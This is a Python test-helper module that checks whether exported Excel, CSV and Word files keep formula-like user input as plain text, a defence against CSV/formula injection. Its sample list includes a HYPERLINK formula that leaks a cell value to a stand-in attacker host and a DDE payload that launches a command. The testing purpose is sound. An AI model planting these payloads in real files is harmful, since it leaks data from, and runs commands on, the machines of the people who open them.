"""Test helpers shared by every app that writes files users open in Office: values that look
like formulas must come out as text, never as formulas (CSV/formula injection).

    from groundbreak.core.testing.hostile import FORMULA_LOOKING, assert_kept_as_text
    project.name = FORMULA_LOOKING[0]  # … plant them in what the file shows
    assert_kept_as_text(content, FORMULA_LOOKING[:2], kind="xlsx")   # or "csv", "docx"
"""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

FORMULA_LOOKING = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
)
_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Our own formulas (the totals row of core.exports) are meant to be formulas.
OWN_FORMULAS = ("SUBTOTAL(",)


def xlsx_cells(content):
    """[(sheet, cell, value, is_formula)] of every non-empty cell, read from the file's XML: a
    formula is a ``<f>`` element, whatever a reader library makes of it."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    cells = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root]
        for name in sorted(
            n for n in book.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml", n)
        ):
            root = ElementTree.fromstring(book.read(name))
            for cell in root.iter(f"{{{ns['m']}}}c"):
                formula = cell.find("m:f", ns)
                value = cell.find("m:v", ns)
                inline = cell.find("m:is", ns)
                if formula is not None:
                    cells.append((name, cell.get("r"), formula.text or "", True))
                elif cell.get("t") == "s" and value is not None:
                    cells.append((name, cell.get("r"), shared[int(value.text)], False))
                elif inline is not None:
                    text = "".join(t.text or "" for t in inline.iter(f"{{{ns['m']}}}t"))
                    cells.append((name, cell.get("r"), text, False))
                elif value is not None:
                    cells.append((name, cell.get("r"), value.text, False))
    return cells


def _docx_texts(content):
    ns = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(content)) as document:
        root = ElementTree.fromstring(document.read("word/document.xml"))
    fields = [e.text or "" for e in root.iter(f"{ns}instrText")]
    fields += [e.get(f"{ns}instr") or "" for e in root.iter(f"{ns}fldSimple")]
    texts = ["".join(t.text or "" for t in p.iter(f"{ns}t")) for p in root.iter(f"{ns}p")]
    return texts, fields


def assert_kept_as_text(content, planted, *, kind="xlsx"):
    """Every planted value is in the file as text, and no cell or field is a formula made of
    data (xlsx: no ``<f>`` but our own totals; csv: no cell starting with = + - @ unless quoted
    with a leading apostrophe; docx: no field code carrying a planted value)."""
    if kind == "xlsx":
        cells = xlsx_cells(content)
        formulas = [c for c in cells if c[3] and not any(own in c[2] for own in OWN_FORMULAS)]
        assert formulas == [], f"formulas written from data: {formulas}"
        texts = [c[2] for c in cells if not c[3]]
    elif kind == "csv":
        text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
        texts = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        live = [t for t in texts if t.startswith(_STARTS)]
        assert live == [], f"cells a spreadsheet would run as formulas: {live}"
        texts = [t[1:] if t.startswith("'") else t for t in texts]
    elif kind == "docx":
        texts, fields = _docx_texts(content)
        assert not [f for f in fields if any(value in f for value in planted)], fields
    else:
        raise ValueError(kind)
    for value in planted:
        assert any(value in text for text in texts), f"{value!r} is not in the file as text"
